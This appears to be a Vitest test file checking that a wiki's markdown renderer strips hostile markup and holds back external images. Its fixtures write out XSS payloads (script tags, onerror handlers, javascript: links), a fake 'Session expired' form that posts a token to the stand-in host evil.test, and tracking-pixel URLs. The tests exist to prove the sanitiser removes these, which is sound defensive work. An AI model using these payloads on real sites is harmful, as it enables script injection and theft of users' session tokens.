// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { BLOCKED_SRC_ATTRIBUTE, renderMarkdown } from './render-markdown';

const ORIGIN = 'https://wiki.example.org';
const render = (source: string, allowed: string[] = []) =>
  renderMarkdown(source, { origin: ORIGIN, allowedImageHosts: new Set(allowed) });

describe('renderMarkdown', () => {
  it('renders markdown headings, code and tables', () => {
    const { html } = render('# Title\n\n`code`\n\n| a |\n|---|\n| 1 |');
    expect(html).toContain('<h1>Title</h1>');
    expect(html).toContain('<code>code</code>');
    expect(html).toContain('<td>1</td>');
  });

  // Hostile markup a document may carry: each row names what must be gone and what stays.
  const hostile = [
    {
      what: 'keeps script and event-handler payloads inert',
      source: '<script>alert(1)</script><img src=x onerror="alert(2)"><a href="javascript:alert(3)">x</a>',
      gone: ['<script', 'onerror', 'javascript:'],
      kept: [],
    },
    {
      what: 'lets a document neither restyle the app nor use its classes',
      source:
        '<style>body { display: none }</style>\n\n<div style="position:fixed;inset:0" class="modal">over</div>',
      gone: ['<style', 'display: none', 'style=', 'class='],
      kept: ['over'],
    },
    {
      what: 'drops forms and their controls, so no fake sign-in can post a token elsewhere',
      source:
        '<form action="https://evil.test/collect" method="post"><p>Session expired</p>' +
        '<input name="token"><textarea></textarea><select><option>a</option></select>' +
        '<button formaction="https://evil.test/x">Send</button></form>',
      gone: ['<form', 'action=', '<input', '<textarea', '<select', '<button', 'evil.test'],
      kept: ['Session expired'],
    },
  ];
  for (const { what, source, gone, kept } of hostile) {
    it(what, () => {
      const { html } = render(source);
      for (const marker of gone) expect(html, marker).not.toContain(marker);
      for (const text of kept) expect(html, text).toContain(text);
    });
  }

  it('holds external images back, per host, and keeps local and data images', () => {
    const source = [
      '![tracker](https://evil.test/pixel.gif?doc=1)',
      '![chart](https://images.example.com/chart.png)',
      '![second](https://evil.test/other.png)',
      '![local](/assets/logo.png)',
      '![same](https://wiki.example.org/files/a.png)',
      '![dot](data:image/png;base64,iVBORw0KGgo=)',
      '<img srcset="https://evil.test/a.png 2x" alt="hi-dpi">',
      '<video poster="https://evil.test/p.png" src="https://evil.test/v.mp4"></video>',
    ].join('\n\n');
    const { html, blockedImageHosts } = render(source);
    expect(blockedImageHosts).toEqual(['evil.test', 'images.example.com']);
    expect(html).not.toMatch(/ src="https:\/\/(evil\.test|images\.example\.com)/);
    expect(html).not.toContain('srcset');
    expect(html).not.toContain('<video');
    expect(html).toContain(`${BLOCKED_SRC_ATTRIBUTE}="https://evil.test/pixel.gif?doc=1"`);
    expect(html).toContain('src="/assets/logo.png"');
    expect(html).toContain('src="https://wiki.example.org/files/a.png"');
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');

    const loaded = render(source, ['images.example.com']);
    expect(loaded.blockedImageHosts).toEqual(['evil.test']);
    expect(loaded.html).toContain('src="https://images.example.com/chart.png"');
    expect(loaded.html).not.toContain(' src="https://evil.test');
  });
});
